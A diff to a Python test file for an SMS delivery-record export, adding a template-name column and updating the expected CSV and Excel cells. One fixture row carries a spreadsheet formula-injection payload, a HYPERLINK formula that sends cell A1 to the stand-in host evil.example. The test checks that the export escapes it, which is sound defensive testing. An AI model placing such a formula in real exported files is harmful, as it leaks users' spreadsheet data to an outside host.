@@ -6,7 +6,8 @@ China time, the status as its word, codes masked, the explanation column, and ev
 spreadsheet would read as a formula after a quote. Changed on purpose since, for files that
 travel (issue 15): a UTF-8 byte order mark first, the number (masked for Managers), the sign,
 the BizId, the fetch time and the RequestId of the row's page as columns, Excel's times as
-date-time cells, its sheet named in the page's language, the file named after the filters.
+date-time cells, its sheet named in the page's language, the file named after the filters; the
+template's name from the account's stored template list (issue 15, point 13).
 """
 
 from __future__ import annotations
@@ -76,7 +77,8 @@ def stored(past_day):
 
 
 HEADER = (
-    BOM + "Sent,Received,Phone number,Status,Error code,Sign,Template,Content,OutId,BizId,"
+    BOM + "Sent,Received,Phone number,Status,Error code,Sign,Template,Template name,Content,"
+    "OutId,BizId,"
     "What it means,Fetched,RequestId\r\n"
 )
 OUT_OF_SERVICE = (
@@ -98,15 +100,15 @@ def csv_lines(day, waiting_since) -> list[str]:
     fetched = china_time(Fetch.objects.get().fetched_at)
     tail = f"{fetched},{REQUEST_ID}\r\n"
     return [
-        f"{waited},,{PHONE},Waiting,,,SMS_4,'-5 积分已到账,,,{NO_RECEIPT},{tail}",
-        f"{day} 10:00:00,{day} 10:00:05,{PHONE},Delivered,DELIVERED,,SMS_100000001,"
+        f"{waited},,{PHONE},Waiting,,,SMS_4,,'-5 积分已到账,,,{NO_RECEIPT},{tail}",
+        f"{day} 10:00:00,{day} 10:00:05,{PHONE},Delivered,DELIVERED,,SMS_100000001,,"
         '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",\'-order-7,,,' + tail,
         f"{day} 09:30:00,{day} 09:30:03,{PHONE},Delivered,DELIVERED,云雀科技,SMS_271935402,"
-        "【云雀科技】验证码******，您正在登录云雀账号，5分钟内有效。,,,," + tail,
-        f"{day} 09:00:00,{day} 09:00:40,{PHONE},Failed,MOBILE_NOT_ON_SERVICE,,'@SMS_3,"
+        "登录验证码,【云雀科技】验证码******，您正在登录云雀账号，5分钟内有效。,,,," + tail,
+        f"{day} 09:00:00,{day} 09:00:40,{PHONE},Failed,MOBILE_NOT_ON_SERVICE,,'@SMS_3,,"
         '"\'+86 提醒：您的账单已出, 请查收 ""本月""\n第二行",\'+1,,'
         f'"{OUT_OF_SERVICE}",' + tail,
-        f"{day} 08:00:00,{day} 08:00:01,{PHONE},Delivered,DELIVERED,,SMS_5,,order-9,,," + tail,
+        f"{day} 08:00:00,{day} 08:00:01,{PHONE},Delivered,DELIVERED,,SMS_5,,,order-9,,," + tail,
     ]
 
 
@@ -154,7 +156,7 @@ def test_with_masking_off_the_csv_export_holds_the_code(
 
     text = body(export(staff, past_day, "csv")).decode()
 
-    assert f"SMS_271935402,{CODE_TEXT},,," in text
+    assert f"SMS_271935402,登录验证码,{CODE_TEXT},,," in text
 
 
 @pytest.mark.chinese
@@ -163,7 +165,8 @@ def test_the_csv_export_speaks_chinese(staff, upstream, past_day, stored):
 
     header, *rows = text.split("\r\n")
     assert header == (
-        "发送时间,接收时间,手机号码,状态,错误码,签名,模板,内容,OutId,BizId,含义,获取时间,RequestId"
+        "发送时间,接收时间,手机号码,状态,错误码,签名,模板,模板名称,内容,OutId,BizId,含义,获取时间,"
+        "RequestId"
     )
     assert [row.split(",")[3] for row in rows if row[:4].isdigit()] == [
         "等待回执",
@@ -202,7 +205,8 @@ def test_the_excel_export_holds_the_same_cells(staff, upstream, past_day, stored
     assert values == [
         [
             *("Sent", "Received", "Phone number", "Status", "Error code", "Sign", "Template"),
-            *("Content", "OutId", "BizId", "What it means", "Fetched", "RequestId"),
+            *("Template name", "Content", "OutId", "BizId", "What it means", "Fetched"),
+            "RequestId",
         ],
         [
             waited,
@@ -212,6 +216,7 @@ def test_the_excel_export_holds_the_same_cells(staff, upstream, past_day, stored
             None,
             None,
             "SMS_4",
+            None,
             "'-5 积分已到账",
             None,
             None,
@@ -220,32 +225,33 @@ def test_the_excel_export_holds_the_same_cells(staff, upstream, past_day, stored
         ],
         [
             *(china(10, 0, 0), china(10, 0, 5), PHONE, "Delivered", "DELIVERED", None),
-            *("SMS_100000001", "'" + HYPERLINK, "'-order-7", None, None, *tail),
+            *("SMS_100000001", None, "'" + HYPERLINK, "'-order-7", None, None, *tail),
         ],
         [
             *(china(9, 30, 0), china(9, 30, 3), PHONE, "Delivered", "DELIVERED", "云雀科技"),
             "SMS_271935402",
+            "登录验证码",
             "【云雀科技】验证码******，您正在登录云雀账号，5分钟内有效。",
             *(None, None, None, *tail),
         ],
         [
             *(china(9, 0, 0), china(9, 0, 40), PHONE, "Failed", "MOBILE_NOT_ON_SERVICE", None),
-            *("'@SMS_3", "'" + BILL, "'+1", None, OUT_OF_SERVICE, *tail),
+            *("'@SMS_3", None, "'" + BILL, "'+1", None, OUT_OF_SERVICE, *tail),
         ],
         [
             *(china(8, 0, 0), china(8, 0, 1), PHONE, "Delivered", "DELIVERED", None, "SMS_5"),
-            *(None, "order-9", None, None, *tail),
+            *(None, None, "order-9", None, None, *tail),
         ],
     ]
     cells = [cell for row in sheet.iter_rows() for cell in row]
     times = [cell for cell in cells if isinstance(cell.value, datetime)]
-    assert {cell.column_letter for cell in times} == {"A", "B", "L"}
+    assert {cell.column_letter for cell in times} == {"A", "B", "M"}
     assert {cell.number_format for cell in times} == {"yyyy-mm-dd hh:mm:ss"}
     assert {cell.data_type for cell in cells if cell.value is not None} == {"s", "d"}
     assert all(cell.font.b for cell in sheet[1])
-    assert [cell.coordinate for cell in cells if cell.alignment.wrap_text] == ["H5"]
-    widths = {letter: sheet.column_dimensions[letter].width for letter in "ACHM"}
-    assert widths == {"A": 20, "C": 16, "H": 60, "M": 38}
+    assert [cell.coordinate for cell in cells if cell.alignment.wrap_text] == ["I5"]
+    widths = {letter: sheet.column_dimensions[letter].width for letter in "ACHIN"}
+    assert widths == {"A": 20, "C": 16, "H": 24, "I": 60, "N": 38}
 
 
 @pytest.mark.chinese
@@ -349,4 +355,4 @@ def test_a_control_character_from_upstream_does_not_break_the_excel_export(
 
     assert "escape \x1b[31m" in body(csv_export).decode("utf-8-sig")
     sheet = openpyxl.load_workbook(io.BytesIO(body(xlsx_export))).active
-    assert sheet["H2"].value == "escape \ufffd[31m"
+    assert sheet["I2"].value == "escape \ufffd[31m"
